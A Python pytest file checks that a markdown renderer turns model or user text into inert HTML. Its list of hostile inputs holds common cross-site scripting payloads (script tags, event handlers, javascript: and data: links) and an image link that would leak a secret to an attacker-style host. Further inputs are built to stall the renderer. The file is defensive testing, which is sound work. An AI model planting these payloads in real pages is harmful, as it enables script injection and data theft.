"""Markdown from models and people becomes HTML that can do nothing."""

from __future__ import annotations

import re

import pytest

from streaming.markdown import KEPT_CHARACTERS, MAX_CHARACTERS, _Kept, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![leak](https://evil.example/?q=secret)",
    "<iframe src=//evil.example></iframe>",
    "<svg/onload=alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "| <script>a</script> |\n|---|\n| <b onclick=x>y</b> |",
    "<a href='javascript:x'>y</a>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input></form>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_text_can_act(text: str) -> None:
    html = render_markdown(text)
    tags = set(re.findall(r"<\s*([a-zA-Z0-9]+)", html))
    assert tags <= {"p", "a", "code", "pre", "span", "table", "thead", "tbody", "tr", "th", "td", "br"}
    for opening in re.findall(r"<[^>]*>", html):
        assert not re.search(
            r"\son\w+\s*=|javascript:|data:|vbscript:|\ssrc=|style=", re.sub(r'title="[^"]*"', "", opening)
        )


def test_links_do_not_hand_over_the_page() -> None:
    html = render_markdown("[docs](https://docs.example/x)")
    assert 'href="https://docs.example/x"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_an_image_becomes_a_link_that_nobody_fetches() -> None:
    html = render_markdown("![chart](https://other.example/c.png)")
    assert "<img" not in html
    assert 'href="https://other.example/c.png"' in html


def test_code_is_coloured_by_class_alone() -> None:
    html = render_markdown("```python\ndef f(): return 1\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_an_unknown_language_is_plain() -> None:
    assert "a &lt; b" in render_markdown("```nosuchlanguage\na < b\n```")


def test_a_text_past_the_cap_is_cut_and_says_so() -> None:
    html = render_markdown("y" * (MAX_CHARACTERS + 5))
    assert html.count("y") == MAX_CHARACTERS
    assert "the text has 200,005 characters" in html


LABORIOUS = {
    "wide table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "|\n" * 20_000,
    "wide quoted table": "> |" + "a|" * 2_000 + "\n> |" + "-|" * 2_000 + "\n" + "> |x|\n" * 2_000,
    "one row": "|" + "a|" * 20_000 + "\n|" + "-|" * 20_000 + "\n",
    "long list": "- a\n" * 40_000,
    "brackets": "[" * 88_000,
    "stars": "*a " * 60_000,
}


@pytest.mark.parametrize("text", LABORIOUS.values(), ids=LABORIOUS.keys())
def test_a_text_that_is_long_work_is_shown_as_written(text: str) -> None:
    html = render_markdown(text)
    assert set(re.findall(r"<\s*([a-zA-Z0-9]+)", html)) == {"pre"}
    assert len(html) < 2 * len(text)


def test_an_escaped_text_can_do_nothing_either() -> None:
    html = render_markdown("<script>alert(1)</script>\n" + "- a\n" * 6_000)
    assert "<script" not in html
    assert "&lt;script&gt;" in html


def test_a_large_table_of_real_rows_is_one() -> None:
    html = render_markdown("| a | b | c |\n|---|---|---|\n" + "| 1 | 2 | 3 |\n" * 1_000 + "\nAnd *more*.\n" * 900)
    assert html.count("<tr>") == 1_001
    assert "<em>more</em>" in html


def test_a_text_is_laid_out_once() -> None:
    text = f"Unlike *any* other {object()}."
    assert render_markdown(text) is render_markdown(text)


def test_what_is_kept_is_bounded() -> None:
    kept = _Kept()
    for number in range(40):
        kept.put(bytes([number]), "x" * (KEPT_CHARACTERS // 10))
    assert kept.get(bytes([39])) is not None
    assert [number for number in range(40) if kept.get(bytes([number])) is not None] == list(range(30, 40))
